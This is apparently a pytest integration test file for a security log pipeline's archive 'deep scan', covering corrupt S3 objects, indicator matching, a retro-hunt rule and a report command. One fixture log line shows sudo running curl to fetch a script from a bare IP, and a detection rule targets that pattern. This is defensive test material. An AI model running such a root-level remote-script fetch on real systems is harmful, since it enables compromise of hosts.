"""Deep scans read back what the pipeline archived in (moto) S3: findings, overlap, corrupt objects, empty ranges."""
from __future__ import annotations

import textwrap
import uuid
from datetime import datetime, timedelta, timezone

from tests.integration.test_pipeline import ATTACKER, brute_force_lines, fetch_event, ship, stream  # noqa: F401


def archive_batch(stream_name: str) -> dict:
    from chalicelib.pipeline import ingest

    event = fetch_event(stream_name)
    assert ingest.handle(event) == {"batchItemFailures": []}
    return event


def window(event: dict) -> tuple[datetime, datetime]:
    arrivals = [r["kinesis"]["approximateArrivalTimestamp"] for r in event["Records"]]
    return (datetime.fromtimestamp(min(arrivals) - 60, tz=timezone.utc),
            datetime.fromtimestamp(max(arrivals) + 60, tz=timezone.utc))


def test_a_deep_scan_reads_the_archive_and_survives_a_corrupt_object(stream, db):
    from chalicelib import aws, config
    from chalicelib.deepscan.archive_reader import list_objects, scan_range
    from detectors.deepscan import ArchiveScan

    ship(brute_force_lines(30, 1.8e9))
    event = archive_batch(stream["name"])
    start, end = window(event)
    first = list_objects(start, end)
    assert first
    hour = first[0]["key"].rsplit("/", 1)[0]
    bad = f"{hour}/shardId-zzz{uuid.uuid4().hex[:6]}-1-2.jsonl.gz"
    aws.client("s3").put_object(Bucket=config.get_settings().logs_bucket, Key=bad,
                                Body=b"\x1f\x8b\x08\x00 this is not gzip")
    try:
        objs = list_objects(start, end)
        seen = []
        out = scan_range(start, end, ArchiveScan(indicators={"ips": [ATTACKER]}), progress=seen.append)
    finally:  # the bucket is shared by the whole session: leave no corrupt object for other tests
        aws.client("s3").delete_object(Bucket=config.get_settings().logs_bucket, Key=bad)
    assert out["records"] >= 30 and out["objects_done"] == out["objects_total"] == len(objs) == len(first) + 1
    assert bad in [c["key"] for c in out["corrupt"]]
    rules = {a.rule_id for a in out["alerts"]}
    assert {"ci-anomaly-brute-force", "ci-deepscan-indicator"} <= rules
    assert all(a.origin == "deep scan" for a in out["alerts"])
    assert seen and seen[-1]["objects_done"] == out["objects_total"]  # progress reported per object


def test_retro_hunt_over_the_archive_with_a_rule_written_later(stream, db, tmp_path):
    from chalicelib.deepscan.archive_reader import scan_range
    from detectors.deepscan import ArchiveScan
    from detectors.pipeline import Detector

    ship([("srv-07", b"Jan 15 09:00:00 srv-07 sudo:  bob : TTY=pts/1 ; PWD=/tmp ; USER=root ; "
                     b"COMMAND=/usr/bin/curl -s http://203.0.113.50/x.sh")])
    start, end = window(archive_batch(stream["name"]))
    assert not [a for a in scan_range(start, end, ArchiveScan())["alerts"] if "curl" in a.title.lower()]
    (tmp_path / "r.yml").write_text(textwrap.dedent("""
        title: Sudo running curl to a bare IP (new rule)
        id: 5f7c1a0e-1111-4c2b-9d0e-000000000002
        logsource: {product: linux, service: sudo}
        detection:
            selection:
                process.command_line|contains: 'curl'
            condition: selection
        level: high
    """))
    found = scan_range(start, end, ArchiveScan(detector=Detector(rule_paths=[tmp_path])))["alerts"]
    assert [a.title for a in found if "curl" in a.title.lower()] == ["Sudo running curl to a bare IP (new rule)"]


def test_an_empty_range_scans_nothing(db, moto_server):
    from chalicelib.deepscan.archive_reader import scan_range
    from detectors.deepscan import ArchiveScan

    start = datetime(2001, 1, 1, tzinfo=timezone.utc)
    out = scan_range(start, start + timedelta(hours=2), ArchiveScan())
    assert out["objects_total"] == 0 and out["records"] == 0 and out["alerts"] == []


def test_the_analyzer_command_writes_a_report(stream, db, tmp_path, capsys):
    import json

    from chalicelib.deepscan.__main__ import main

    ship(brute_force_lines(15, 1.8e9))
    start, end = window(archive_batch(stream["name"]))
    iocs = tmp_path / "iocs.json"
    iocs.write_text(json.dumps({"ips": [ATTACKER]}))
    out = tmp_path / "report.json"
    assert main(["--from", start.isoformat(), "--to", end.isoformat(), "--indicators", str(iocs),
                 "--output", str(out)]) == 0
    report = json.loads(out.read_text())
    assert report["records"] >= 15 and report["corrupt_objects"] == []
    assert {"ci-anomaly-brute-force", "ci-deepscan-indicator"} <= {f["rule_id"] for f in report["findings"]}
    assert all(f["origin"] == "deep scan" for f in report["findings"])
    assert "findings in" in capsys.readouterr().err
    try:
        main(["--from", end.isoformat(), "--to", start.isoformat()])
    except SystemExit as exc:
        assert exc.code == 2
    else:
        raise AssertionError("a reversed range must be refused")
